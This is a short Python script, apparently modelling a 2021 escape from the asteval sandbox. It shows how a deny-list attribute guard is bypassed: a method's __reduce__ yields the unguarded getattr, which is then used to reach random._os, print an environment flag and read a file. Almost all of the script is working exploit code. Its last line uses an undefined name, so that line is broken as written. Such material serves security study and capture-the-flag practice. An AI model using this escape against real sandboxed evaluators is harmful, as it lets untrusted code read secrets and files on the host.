# asteval, as reported in 2021: a list of attributes that are forbidden, and one that is missing in
# it. Asked how to pickle itself, a method answers: with getattr, the builtin.
import functools
import operator
import random


# A model of the guard: the guest's every attribute goes through here.

UNSAFE = ("__bases__", "__class__", "__closure__", "__code__", "__dict__", "__func__",
          "__getattribute__", "__globals__", "__mro__", "__self__", "__subclasses__")


def attribute(thing, name):
    if name in UNSAFE or name.startswith("_") and not name.startswith("__"):
        raise AttributeError(f"no safe attribute {name}")
    return operator.attrgetter(name)(thing)


# The guest's half. It has `attribute`, and the modules.

try:
    attribute(random, "_os")
except AttributeError as error:
    print("Refused:", error)

# How is a method pickled? As a call: getattr(its object, its name).
reduce = attribute("text".upper, "__reduce__")

# The builtin is looked up by who asks. So let singledispatch ask, which is the library's: it calls
# operator.call, and that calls the method.
getattr, arguments = functools.singledispatch(operator.call)(reduce)
print("Pickled as", getattr, arguments)

# That getattr is behind no guard.
os = getattr(random, "_os")
print(os.environ["MUSEUM_FLAG"])
print(os.read(os.open(outside["file"], os.O_RDONLY), 100).decode())
